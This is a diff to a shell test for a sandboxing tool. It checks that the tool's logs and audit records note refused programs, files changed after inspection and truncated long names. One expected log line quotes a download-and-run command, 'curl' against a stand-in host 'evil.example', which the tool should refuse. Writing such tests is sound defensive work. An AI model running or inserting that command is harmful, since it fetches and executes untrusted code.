@@ -47,12 +47,16 @@ await_sessions "stopped, looking"
 # The log tells of refusals, of what was warned of, and of a file that was another one when it ran; so does the record.
 for line in '.event == "program_refused" and (.why | test("bad.py:2: download-run: curl http://evil.example/x"))' \
 	'.event == "findings" and any(.findings[]; .kind == "not-looked-at")' \
-	'.event == "changed_after_look" and .files == ["good.py"]'; do
+	'.event == "changed_after_look" and .files == ["good.py"] and .program == "/bin/bash"' \
+	'.event == "changes_unknown" and .program == "/bin/true" and .why == "the sandbox has ended"'; do
 	jq -es "any(.[]; $line)" "$T/log" >/dev/null || fail "the log has no line with $line: $(cat "$T/log")"
 done
 log=$(grep -l '"event":"inspect"' "$T"/audit/*)
-[ "$(grep -c '"event":"inspect","cause":".*:[12]: download-run: .*"verdict":"deny"' "$log")" = 7 ] ||
+[ "$(grep -c '"event":"inspect","cause":".*:[12]: download-run: .*"verdict":"deny"' "$log")" = 9 ] ||
 	fail "records: $(grep '"event":"inspect"' "$T"/audit/*)"
+grep -q '"event":"inspect","cause":"good.py","path":"/bin/bash".*"reason":"changed_after_look"' "$log" ||
+	fail "no record of a change: $(grep '"event":"inspect"' "$log")"
+[ "$(grep -c '"path":"x*… \[[23]0000[05] bytes\]"' "$log")" = 2 ] || fail "long names: $(grep '"path":"x' "$log")"
 "$CALLGATE" audit verify "$log" >"$T/out" 2>&1 || fail "verify: $(cat "$T/out")"
 start_server --api-key "$SERVE_KEY" --templates "$T/templates"
 client nobody asks "$H"
